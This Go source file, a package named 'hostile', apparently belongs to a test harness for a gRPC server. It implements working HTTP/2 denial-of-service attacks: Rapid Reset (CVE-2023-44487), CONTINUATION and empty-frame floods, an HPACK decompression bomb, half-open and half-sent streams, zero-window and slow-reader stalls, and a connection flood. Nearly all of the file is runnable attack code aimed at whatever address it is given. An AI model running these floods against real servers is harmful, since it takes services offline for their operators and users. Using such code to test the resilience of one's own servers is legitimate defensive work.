package hostile

import (
	"bytes"
	"context"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// batch is how many frames a flood writes at once.
const batch = 256

// HalfSentCalls opens calls on conns connections that announce a message
// of size bytes, send sent bytes of it (as the windows allow) and never
// finish: each connection opens such calls until the server's windows
// stop it, then holds them, and opens another whenever the server resets
// one.
func HalfSentCalls(ctx context.Context, addr string, conns, size, sent int) *Tally {
	return attackH2(ctx, addr, conns, true, nil, func(ctx context.Context, h *h2conn) error {
		payload := bytes.Repeat([]byte{'x'}, 16<<10)
		for ctx.Err() == nil {
			id := h.open()
			if err := h.write(func(fr *http2.Framer) error {
				return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.block(), EndHeaders: true})
			}); err != nil {
				return err
			}
			prefix := []byte{0, byte(size >> 24), byte(size >> 16), byte(size >> 8), byte(size)}
			left := sent
			first := true
			for left > 0 {
				n := h.waitWindow(ctx, id, min(left, len(payload)))
				if n == 0 || first && n < len(prefix) {
					break
				}
				chunk := payload[:n]
				if first {
					chunk = append(append([]byte(nil), prefix...), payload[:n-len(prefix)]...)
					first = false
				}
				if err := h.write(func(fr *http2.Framer) error { return fr.WriteData(id, false, chunk) }); err != nil {
					return err
				}
				h.tally.Frames.Add(1)
				left -= n
			}
			if !h.waitConn(ctx) {
				return errEnded
			}
		}
		return nil
	})
}

// waitConn waits until the connection's window can take a byte again
// (after the server reset a call and returned its bytes), and reports
// false once the connection or ctx ended.
func (h *h2conn) waitConn(ctx context.Context) bool {
	h.mu.Lock()
	defer h.mu.Unlock()
	for h.connWin <= 0 && !h.ended && ctx.Err() == nil {
		h.changed.Wait()
	}
	return !h.ended && ctx.Err() == nil
}

// HalfOpenStreams opens streams whose HEADERS never end the stream and
// sends nothing more on them, up to streams a connection, on conns
// connections; it opens another whenever the server resets one.
func HalfOpenStreams(ctx context.Context, addr string, conns, streams int) *Tally {
	return attackH2(ctx, addr, conns, true, nil, func(ctx context.Context, h *h2conn) error {
		for ctx.Err() == nil {
			h.mu.Lock()
			for len(h.streams) >= streams && !h.ended && ctx.Err() == nil {
				h.changed.Wait()
			}
			ended := h.ended
			h.mu.Unlock()
			if ended {
				return errEnded
			}
			id := h.open()
			if err := h.write(func(fr *http2.Framer) error {
				return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.block(), EndHeaders: true})
			}); err != nil {
				return err
			}
		}
		return nil
	})
}

// ContinuationFlood begins a header block on each of conns connections
// and follows it with empty CONTINUATION frames, which never end it, as
// fast as the socket takes them.
func ContinuationFlood(ctx context.Context, addr string, conns int) *Tally {
	return attackH2(ctx, addr, conns, true, nil, func(ctx context.Context, h *h2conn) error {
		id := h.open()
		block := h.block()
		if err := h.write(func(fr *http2.Framer) error {
			return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block[:1]})
		}); err != nil {
			return err
		}
		return flood(ctx, h, func(fr *http2.Framer) error { return fr.WriteContinuation(id, false, nil) })
	})
}

// flood writes frames with one until the connection or ctx ends.
func flood(ctx context.Context, h *h2conn, one func(fr *http2.Framer) error) error {
	for ctx.Err() == nil {
		if err := h.write(func(fr *http2.Framer) error {
			for range batch {
				if err := one(fr); err != nil {
					return err
				}
			}
			return nil
		}); err != nil {
			return err
		}
		h.tally.Frames.Add(batch)
	}
	return nil
}

// EmptyFrame is a kind of frame that carries nothing a server can use.
type EmptyFrame string

// The empty frames of EmptyFrameFlood.
const (
	EmptyData          EmptyFrame = "empty DATA"                     // DATA of no bytes, without END_STREAM, on an open stream
	ZeroWindowUpdate   EmptyFrame = "WINDOW_UPDATE of 0 on a stream" // a stream error each time
	Priority           EmptyFrame = "PRIORITY"                       // on streams never opened
	UnknownType        EmptyFrame = "unknown frame type"             // type 0x20, which section 5.5 says to ignore
	EmptySettings      EmptyFrame = "SETTINGS without changes"       // each to be acknowledged
	Ping               EmptyFrame = "PING"                           // each to be acknowledged
	UnsolicitedPingAck EmptyFrame = "PING ACK never asked for"
)

// EmptyFrameFlood sends frames of kind on conns connections as fast as
// the socket takes them, reading what the server answers.
func EmptyFrameFlood(ctx context.Context, addr string, conns int, kind EmptyFrame) *Tally {
	return attackH2(ctx, addr, conns, true, nil, func(ctx context.Context, h *h2conn) error {
		h.wfr.AllowIllegalWrites = true
		var id uint32
		if kind == EmptyData || kind == ZeroWindowUpdate {
			id = h.open()
			if err := h.write(func(fr *http2.Framer) error {
				return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.block(), EndHeaders: true})
			}); err != nil {
				return err
			}
		}
		var n uint32
		return flood(ctx, h, func(fr *http2.Framer) error {
			n++
			switch kind {
			case EmptyData:
				return fr.WriteData(id, false, nil)
			case ZeroWindowUpdate:
				return fr.WriteWindowUpdate(id, 0)
			case Priority:
				return fr.WritePriority(2*n+1001, http2.PriorityParam{StreamDep: 0, Weight: 15})
			case UnknownType:
				return fr.WriteRawFrame(0x20, 0, 0, []byte{1, 2, 3, 4})
			case EmptySettings:
				return fr.WriteSettings()
			case Ping:
				return fr.WritePing(false, [8]byte{byte(n)})
			default:
				return fr.WritePing(true, [8]byte{byte(n)})
			}
		})
	})
}

// RapidReset opens whole calls (HEADERS, the message, END_STREAM) and
// resets each at once (RST_STREAM CANCEL), as CVE-2023-44487's clients
// do, never reading an answer before the reset.
func RapidReset(ctx context.Context, addr string, conns int, msg []byte) *Tally {
	return attackH2(ctx, addr, conns, true, nil, func(ctx context.Context, h *h2conn) error {
		block := h.block()
		for ctx.Err() == nil {
			if err := h.write(func(fr *http2.Framer) error {
				for range batch / 3 {
					id := h.open()
					if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}); err != nil {
						return err
					}
					if err := fr.WriteData(id, true, msg); err != nil {
						return err
					}
					if err := fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
						return err
					}
					h.endStream(id)
				}
				return nil
			}); err != nil {
				return err
			}
			h.tally.Frames.Add(batch / 3 * 3)
		}
		return nil
	})
}

// HPACKBomb sends header blocks that put one large field in the dynamic
// table and then name it again and again with one byte each: a 16 KiB
// block decodes to some 60 MB of fields.
func HPACKBomb(ctx context.Context, addr string, conns int) *Tally {
	return attackH2(ctx, addr, conns, true, nil, func(ctx context.Context, h *h2conn) error {
		// The first block indexes the field; every block then repeats it.
		var first bytes.Buffer
		enc := hpack.NewEncoder(&first)
		for _, f := range []hpack.HeaderField{{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"},
			{Name: ":path", Value: CheckPath}, {Name: ":authority", Value: "authlimit"},
			{Name: "content-type", Value: "application/grpc"}, {Name: "x-bomb", Value: strings.Repeat("b", 3900)}} {
			_ = enc.WriteField(f)
		}
		// Indexed field 62: the newest dynamic table entry, x-bomb.
		repeat := bytes.Repeat([]byte{0x80 | 62}, 16000)
		block := append(bytes.Clone(first.Bytes()), repeat[:16000-first.Len()]...)
		if err := h.write(func(fr *http2.Framer) error {
			return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: h.open(), BlockFragment: block, EndHeaders: true, EndStream: true})
		}); err != nil {
			return err
		}
		// The static part of the block is now in the table too: later
		// blocks are the indexes alone.
		for ctx.Err() == nil {
			if err := h.write(func(fr *http2.Framer) error {
				for range 8 {
					if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: h.open(), BlockFragment: repeat, EndHeaders: true, EndStream: true}); err != nil {
						return err
					}
				}
				return nil
			}); err != nil {
				return err
			}
			h.tally.Frames.Add(8)
		}
		return nil
	})
}

// ZeroWindow sets SETTINGS_INITIAL_WINDOW_SIZE to 0 and never opens a
// window, then makes calls whole calls (msg) on each connection and holds
// it: the answers can never be sent.
func ZeroWindow(ctx context.Context, addr string, conns, calls int, msg []byte) *Tally {
	return attackH2(ctx, addr, conns, true, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, func(ctx context.Context, h *h2conn) error {
		block := h.block()
		for range calls {
			id := h.open()
			if err := h.write(func(fr *http2.Framer) error {
				if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}); err != nil {
					return err
				}
				return fr.WriteData(id, true, msg)
			}); err != nil {
				return err
			}
			h.tally.Frames.Add(2)
		}
		h.wait(ctx)
		return errEnded
	})
}

// SlowReader makes whole calls (msg) as fast as it can and never reads
// an answer: the server's writes back up into its socket.
func SlowReader(ctx context.Context, addr string, conns int, msg []byte) *Tally {
	return attackH2(ctx, addr, conns, false, nil, func(ctx context.Context, h *h2conn) error {
		block := h.block()
		for ctx.Err() == nil {
			if err := h.write(func(fr *http2.Framer) error {
				for range batch / 2 {
					id := h.open()
					if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}); err != nil {
						return err
					}
					if err := fr.WriteData(id, true, msg); err != nil {
						return err
					}
					h.endStream(id)
				}
				return nil
			}); err != nil {
				return err
			}
			h.tally.Frames.Add(batch)
		}
		return nil
	})
}

// WholeCalls makes whole calls (msg), one at a time on each of conns
// connections, reading each answer: what a well-behaved client does,
// from where it should not (a peer the server does not trust, say).
func WholeCalls(ctx context.Context, addr string, conns int, msg []byte) *Tally {
	return attackH2(ctx, addr, conns, true, nil, func(ctx context.Context, h *h2conn) error {
		block := h.block()
		for ctx.Err() == nil {
			id := h.open()
			if err := h.write(func(fr *http2.Framer) error {
				if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}); err != nil {
					return err
				}
				return fr.WriteData(id, true, msg)
			}); err != nil {
				return err
			}
			h.tally.Frames.Add(2)
			h.mu.Lock()
			for _, open := h.streams[id]; open && !h.ended && ctx.Err() == nil; _, open = h.streams[id] {
				h.changed.Wait()
			}
			ended := h.ended
			h.mu.Unlock()
			if ended {
				return errEnded
			}
		}
		return nil
	})
}

// ConnFloodH2 opens conns connections that send the preface and SETTINGS
// and nothing more, and holds them; one the server closes is opened
// again.
func ConnFloodH2(ctx context.Context, addr string, conns int) *Tally {
	return attackH2(ctx, addr, conns, true, nil, func(ctx context.Context, h *h2conn) error {
		h.wait(ctx)
		return errEnded
	})
}
